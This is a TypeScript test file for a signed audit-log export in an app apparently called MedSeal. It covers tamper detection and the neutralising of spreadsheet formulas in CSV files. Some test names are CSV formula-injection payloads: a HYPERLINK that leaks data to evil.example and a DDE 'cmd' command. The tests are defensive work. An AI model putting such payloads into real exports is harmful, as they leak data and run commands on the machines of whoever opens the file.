/**
 * `audit export --action --since`: a filtered copy keeps each entry's hash and signature, so
 * each entry in it is checked on its own. Attacks on such a copy: an edited entry, an entry
 * from outside the filter slipped in, an entry removed, the filter line removed (the copy then
 * reads as a whole log with gaps), a forged head. Names beside fingerprints are the exporter's.
 */
import { describe, expect, it } from 'vitest';
import { AUDIT_ACTION_GROUPS, actionsNamed, sinceTime } from '../../main/audit/audit-filter.js';
import { exportAudit } from '../../main/audit/audit-export.js';
import { exportVerifiedAudit, verifyAuditExport } from '../../main/services/audit-export.js';
import { fingerprintHex } from '../../main/identity/fingerprint.js';
import { fastIdentity } from '../helpers/identities.js';
import { openTestProfile } from '../helpers/profiles.js';

async function profileWithHistory() {
  const { profile, identity } = await openTestProfile();
  const bob = await fastIdentity('Bob Brown');
  await profile.contacts.importCard(bob.card);
  const bobHex = fingerprintHex(bob.card.fingerprint);
  const stranger = 'cd'.repeat(32);
  for (let i = 1; i <= 3; i++) {
    profile.audit.append({
      action: 'package.sealed',
      counterparts: [bobHex, stranger],
      fileCount: i,
      totalBytes: 100 * i,
    });
    profile.audit.append({ action: 'identity.unlocked', detail: 'cli:seal' });
  }
  return { profile, identity, bobHex };
}

const jsonLines = (text: string) =>
  text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);

describe('a filtered audit export', () => {
  it('holds only the chosen actions, says so first, names counterparts, and verifies entry by entry', async () => {
    const { profile, identity, bobHex } = await profileWithHistory();
    const { text, entries } = await exportVerifiedAudit(profile, 'jsonl', { actions: actionsNamed(['package']) });
    const lines = jsonLines(text);
    expect(entries).toBe(3);
    expect(lines[0]).toEqual({
      filter: {
        actions: actionsNamed(['package']),
        since: null,
        entries: 3,
        of: profile.audit.entries().length,
        signature: expect.stringMatching(/^[0-9a-f]{128}$/),
      },
    });
    const rows = lines.slice(1, -1);
    expect(rows.map((row) => row.action)).toEqual(['package.sealed', 'package.sealed', 'package.sealed']);
    expect(rows[0]).toMatchObject({
      counterparts: [bobHex, 'cd'.repeat(32)],
      counterpart_names: ['Bob Brown, Test Hospital', null],
    });
    const checked = verifyAuditExport(text, identity.card);
    expect(checked).toMatchObject({ entries: 3, leftOut: profile.audit.entries().length - 3 });
    expect(profile.audit.entries().at(-1)).toMatchObject({ action: 'audit.exported', detail: 'jsonl:filtered' });
  });

  it('in CSV, with names in their own column, reads back and verifies', async () => {
    const { profile, identity } = await profileWithHistory();
    const { text } = await exportVerifiedAudit(profile, 'csv', {
      actions: ['package.sealed'],
      since: new Date(Date.now() - 3_600_000),
    });
    const rows = text.split('\r\n');
    expect(rows[1]).toMatch(
      /^,,,filtered-export,,,,,entries=3 of=\d+ actions=package\.sealed since=\d{4}-\S+ signature=[0-9a-f]{128},,,$/,
    );
    expect(rows[2]).toContain(',"Bob Brown, Test Hospital; not in contacts",');
    expect(verifyAuditExport(text, identity.card)).toMatchObject({ entries: 3 });
  });

  it('is refused when an entry in it was edited, removed, or slipped in from outside the filter', async () => {
    const { profile, identity } = await profileWithHistory();
    const full = jsonLines((await exportVerifiedAudit(profile, 'jsonl')).text);
    const { text } = await exportVerifiedAudit(profile, 'jsonl', { actions: ['package.sealed'] });
    const lines = text.trim().split('\n');
    const tampered = (changed: string[]) => () => verifyAuditExport(changed.join('\n'), identity.card);

    const edited = lines.map((line) => line.replace('"file_count":2', '"file_count":9'));
    expect(edited).not.toEqual(lines);
    expect(tampered(edited)).toThrow(expect.objectContaining({ code: 'AUDIT_LOG_TAMPERED' }));

    const removed = [...lines.slice(0, 2), ...lines.slice(3)]; // the second entry taken out, the filter line left as it was
    expect(tampered(removed)).toThrow(
      expect.objectContaining({ code: 'AUDIT_LOG_TAMPERED', problem: 'selection-changed' }),
    );
    const recounted = [lines[0]!.replace('"entries":3', '"entries":2'), ...removed.slice(1)]; // and the count edited to fit: the signed statement still names three
    expect(tampered(recounted)).toThrow(
      expect.objectContaining({ code: 'AUDIT_LOG_TAMPERED', problem: 'selection-changed' }),
    );

    const unlock = JSON.stringify(full.find((row) => row.action === 'identity.unlocked')); // genuine, signed, but not chosen
    expect(tampered([lines[0]!, lines[1]!, unlock, ...lines.slice(2)])).toThrow(
      expect.objectContaining({ code: 'AUDIT_LOG_TAMPERED' }),
    );

    const unfiltered = lines.slice(1); // the filter line removed: now a whole log with gaps
    expect(tampered(unfiltered)).toThrow(expect.objectContaining({ code: 'AUDIT_LOG_TAMPERED' }));

    const foreignHead = await openTestProfile();
    const otherHead = jsonLines((await exportVerifiedAudit(foreignHead.profile, 'jsonl')).text).at(-1);
    expect(tampered([...lines.slice(0, -1), JSON.stringify(otherHead)])).toThrow(
      expect.objectContaining({ code: 'AUDIT_LOG_TAMPERED' }),
    );

    expect(verifyAuditExport(text, identity.card)).toMatchObject({ entries: 3 }); // the untouched copy still verifies
  });

  it('a whole export cut short cannot pass as a filtered one: a filter line needs a filter and the signature', async () => {
    const { profile, identity } = await profileWithHistory();
    const lines = (await exportVerifiedAudit(profile, 'jsonl')).text.trim().split('\n');
    const entries = lines.length - 1;
    const cut = [...lines.slice(0, 3), ...lines.slice(4)]; // entry 4 deleted
    const claims = (filter: object) => () =>
      verifyAuditExport([JSON.stringify({ filter }), ...cut].join('\n'), identity.card);
    expect(claims({ actions: [], since: null, entries: entries - 1, of: entries, signature: '0'.repeat(128) })).toThrow(
      expect.objectContaining({ code: 'AUDIT_EXPORT_UNREADABLE' }),
    );
    expect(
      claims({
        actions: [],
        since: '2000-01-01T00:00:00.000Z',
        entries: entries - 1,
        of: entries,
        signature: '0'.repeat(128),
      }),
    ).toThrow(expect.objectContaining({ code: 'AUDIT_LOG_TAMPERED', problem: 'selection-changed' }));
    expect(claims({ actions: [], since: '2000-01-01T00:00:00.000Z', entries: entries - 1, of: entries })).toThrow(
      expect.objectContaining({ code: 'AUDIT_EXPORT_UNREADABLE' }),
    );
  });

  it('a JSON filter line must be exactly as written: no strings for counts, no extra keys', async () => {
    const { profile, identity } = await profileWithHistory();
    const lines = (await exportVerifiedAudit(profile, 'jsonl', { actions: ['package.sealed'] })).text
      .trim()
      .split('\n');
    const filter = JSON.parse(lines[0]!).filter as Record<string, unknown>;
    for (const changed of [
      { ...filter, entries: String(filter.entries) },
      { ...filter, note: 'x' },
    ]) {
      expect(() =>
        verifyAuditExport([JSON.stringify({ filter: changed }), ...lines.slice(1)].join('\n'), identity.card),
      ).toThrow(expect.objectContaining({ code: 'AUDIT_EXPORT_UNREADABLE' }));
    }
  });

  it('a CSV row with more cells than the header is refused', async () => {
    const { profile, identity } = await profileWithHistory();
    const rows = (await exportVerifiedAudit(profile, 'csv')).text.split('\r\n');
    rows[2] = `${rows[2]},=HYPERLINK("x")`;
    expect(() => verifyAuditExport(rows.join('\r\n'), identity.card)).toThrow(
      expect.objectContaining({ code: 'AUDIT_EXPORT_UNREADABLE' }),
    );
  });

  it('reads exports written before counterpart names existed', async () => {
    const { profile, identity } = await profileWithHistory();
    const { text } = await exportVerifiedAudit(profile, 'csv');
    const withoutNames = text
      .split('\r\n')
      .map((row) => {
        const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
        return [...cells.slice(0, 5), ...cells.slice(6)].join('');
      })
      .join('\r\n');
    expect(withoutNames.split('\r\n')[0]).toBe(
      'seq,at,actor,action,counterparts,file_count,total_bytes,detail,prev_hash,hash,signature',
    );
    expect(verifyAuditExport(withoutNames, identity.card)).toMatchObject({ filter: null });
  });
});

/** Item 12 of the second review: names are what partners chose; no cell a spreadsheet makes of them may start a formula. */
describe('partner-chosen names in a CSV export', () => {
  const FORMULA = /^\s*[=+\-@\t\r]/;
  /** The cells a spreadsheet splitting the line at every `;` would make (quotes do not protect a cell that begins mid-line). */
  const semicolonCells = (row: string) => row.split(';');

  it('every name, and whatever follows a ; inside one, is neutralised, and the names cell is always quoted', async () => {
    const { profile, identity, bobHex } = await profileWithHistory();
    const hyperlink = await fastIdentity('=HYPERLINK("https://evil.example/?leak","Open")');
    const semicolon = await fastIdentity("Eve;=cmd|' /C calc'!A0");
    for (const card of [hyperlink.card, semicolon.card]) await profile.contacts.importCard(card);
    profile.audit.append({
      action: 'package.sealed',
      counterparts: [bobHex, fingerprintHex(hyperlink.card.fingerprint), fingerprintHex(semicolon.card.fingerprint)],
      fileCount: 1,
      totalBytes: 1,
    });
    const { text } = await exportVerifiedAudit(profile, 'csv', { actions: ['package.sealed'] });
    const row = text.split('\r\n').find((line) => line.includes('HYPERLINK'))!;
    expect(row).toContain(
      ',"Bob Brown, Test Hospital; \'=HYPERLINK(""https://evil.example/?leak"",""Open""), Test Hospital; Eve;\'=cmd|\' /C calc\'!A0, Test Hospital",',
    );
    for (const cell of semicolonCells(row)) expect(cell, cell).not.toMatch(FORMULA);
    expect(verifyAuditExport(text, identity.card)).toMatchObject({ entries: 4 });
  });

  it('a names cell with no comma or quote in it is quoted all the same', async () => {
    const { profile, bobHex } = await profileWithHistory();
    const names: Record<string, string> = { [bobHex]: 'Eve;=1+1', ['cd'.repeat(32)]: '@SUM(A1)' };
    const csv = exportAudit(profile.audit.entries(), 'csv', {
      head: null,
      nameOf: (fingerprint) => names[fingerprint] ?? null,
    });
    const row = csv.split('\r\n').find((line) => line.includes('package.sealed'))!;
    expect(row).toContain(`,"Eve;'=1+1; '@SUM(A1)",`);
    for (const cell of semicolonCells(row)) expect(cell, cell).not.toMatch(FORMULA);
    const single = exportAudit(profile.audit.entries(), 'csv', { head: null, nameOf: () => 'Plain Name' });
    expect(single.split('\r\n').find((line) => line.includes('package.sealed'))).toContain(
      ',"Plain Name; Plain Name",',
    );
  });
});

describe('choosing entries', () => {
  it('takes actions and groups, and names what it cannot take', () => {
    expect(actionsNamed(['package.opened'])).toEqual(['package.opened']);
    expect(actionsNamed(['receipt.*,package.delivered'])).toEqual([
      'package.delivered',
      'receipt.sent',
      'receipt.received',
      'receipt.refused',
    ]);
    expect(AUDIT_ACTION_GROUPS).toContain('emergency-access');
    expect(() => actionsNamed(['package.unlocked'])).toThrow(
      /"package.unlocked" is not an audit action.*group: identity, contact, package/,
    );
  });

  it('reads a day, a zoned time or a span, and refuses anything else in plain words', () => {
    const now = new Date('2026-11-30T12:00:00Z');
    expect(sinceTime('7d', now).toISOString()).toBe('2026-11-23T12:00:00.000Z');
    expect(sinceTime('12h', now).toISOString()).toBe('2026-11-30T00:00:00.000Z');
    expect(sinceTime('2026-11-01T08:00Z').toISOString()).toBe('2026-11-01T08:00:00.000Z');
    expect(sinceTime('2026-11-01').getTime()).toBe(new Date(2026, 10, 1).getTime());
    for (const bad of ['yesterday', '2026-02-30', '2026-13-01', '2026-00-10', '2026-11-01T08:00', '7'])
      expect(() => sinceTime(bad), bad).toThrow(/is not a time MedSeal can read/);
  });
});
